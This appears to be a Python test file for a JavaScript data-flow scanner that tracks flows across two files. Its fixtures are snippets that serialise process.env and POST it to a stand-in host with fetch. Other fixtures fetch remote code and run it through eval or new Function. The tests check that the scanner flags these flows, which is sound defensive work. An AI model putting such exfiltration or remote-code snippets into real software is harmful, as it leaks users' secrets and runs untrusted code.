from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.javascript.across.crossing import could_cross, crossing_flows, roles
from assay.javascript.across.part import Part
from assay.model.source import Flow

ENVIRONMENT = "JSON.stringify(process.env)"
POST = 'fetch("https://a.invalid/c", { method: "POST", body: data })'
SENDERS = [
    f"exports.send = (data) => {POST};",
    f"module.exports = {{ send: (data) => {POST} }};",
    f"function send(data) {{ {POST}; }}\nmodule.exports = {{ send }};",
    f"module.exports = {{ async send(data) {{ {POST}; }}, }};",
    f"export const send = (data) => {POST};",
    f"export async function send(data) {{ await {POST}; }}",
    f"function post(data) {{ {POST}; }}\nexport {{ post as send }};",
]
CALLERS = [
    f'require("./s").send({ENVIRONMENT});',
    f'const {{ send }} = require("./s");\nsend({ENVIRONMENT});',
    f'const {{ send: out }} = require("./s");\nout({ENVIRONMENT});',
    f'const s = require("./s");\n\ns.send({ENVIRONMENT});',
    f'import {{ send }} from "./s";\nsend({ENVIRONMENT});',
    f'import * as s from "./s";\ns.send({ENVIRONMENT});',
    f'const s_1 = require("./s");\n(0, s_1.send)({ENVIRONMENT});',
    f'(await import("./s")).send({ENVIRONMENT});',
]


def joined(first: str, second: str) -> tuple[Flow, ...]:
    parts = [Part(0, "index.js", first.encode(), {"./s": 1}), Part(1, "s.js", second.encode(), {"./index": 0})]
    return crossing_flows(parts)


@pytest.mark.parametrize("sender", SENDERS)
@pytest.mark.parametrize("caller", CALLERS)
def test_what_one_file_reads_another_sends(caller: str, sender: str) -> None:
    flow, *_ = joined(caller, sender)
    assert (flow.source.kind.value, flow.sink.kind.value) == ("environment-dump", "network")
    assert (flow.source.location.file, flow.source.location.line) == ("index.js", caller.count("\n") + 1)
    line = next(number for number, text in enumerate(sender.splitlines(), 1) if "fetch" in text)
    assert (flow.sink.location.file, flow.sink.location.line) == ("s.js", line)
    assert "a.invalid" in flow.sink.detail


@pytest.mark.parametrize(
    "loader",
    [
        'module.exports = async () => (await fetch("https://a.invalid/x")).text();',
        'export default async () => (await fetch("https://a.invalid/x")).text();',
    ],
)
@pytest.mark.parametrize(
    "runner",
    [
        'const get = require("./s");\n(async () => { new Function(await get())(); })();',
        'import get from "./s";\neval(await get());',
    ],
)
def test_what_one_file_loads_another_runs(runner: str, loader: str) -> None:
    flow, *_ = joined(runner, loader)
    assert (flow.source.kind.value, flow.sink.kind.value) == ("network", "dynamic-code")
    assert (flow.source.location.file, flow.sink.location.file) == ("s.js", "index.js")


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ('require("./s").send("hello");', SENDERS[0]),
        ('const { send } = require("other");\nsend(process.env);', SENDERS[0]),
        (f'require("./s").other({ENVIRONMENT});', SENDERS[0]),
        (f'{POST}; require("./s")', "exports.env = process.env;"),
    ],
)
def test_what_does_not_go_from_one_to_the_other(first: str, second: str) -> None:
    assert joined(first, second) == ()


def test_a_chain_needs_two_files() -> None:
    both = roles(f"{SENDERS[0]} {ENVIRONMENT}".encode())
    assert not could_cross([both, roles(b"let a = 1")])
    assert could_cross([roles(ENVIRONMENT.encode()), roles(SENDERS[0].encode())])


def test_it_stops_when_it_is_told_to() -> None:
    parts = [Part(0, "a.js", CALLERS[0].encode(), {"./s": 1}), Part(1, "s.js", SENDERS[0].encode())]
    assert crossing_flows(parts, lambda: True) == ()


@settings(deadline=None, max_examples=60)
@given(st.binary(max_size=200), st.sampled_from([*CALLERS, *SENDERS]), st.binary(max_size=100))
def test_any_bytes_are_survived(before: bytes, code: str, after: bytes) -> None:
    parts = [Part(0, "a.js", before + code.encode() + after, {"./s": 1}), Part(1, "s.mjs", after + before)]
    for flow in crossing_flows(parts):
        assert flow.source.location.file in ("a.js", "s.mjs")


def test_imports_and_exports_keep_their_lines() -> None:
    text = 'const {\n  a,\n  b,\n} = require("./s");\nmodule.exports = {\n  a,\n  c: b,\n};\n'
    written = Part(0, "a.js", text.encode(), {"./s": 1}).text()
    assert written.count(b"\n") == text.count("\n")
    assert b"a = __part1_a" in written
    assert b"__part0_c = __part1_b" in written
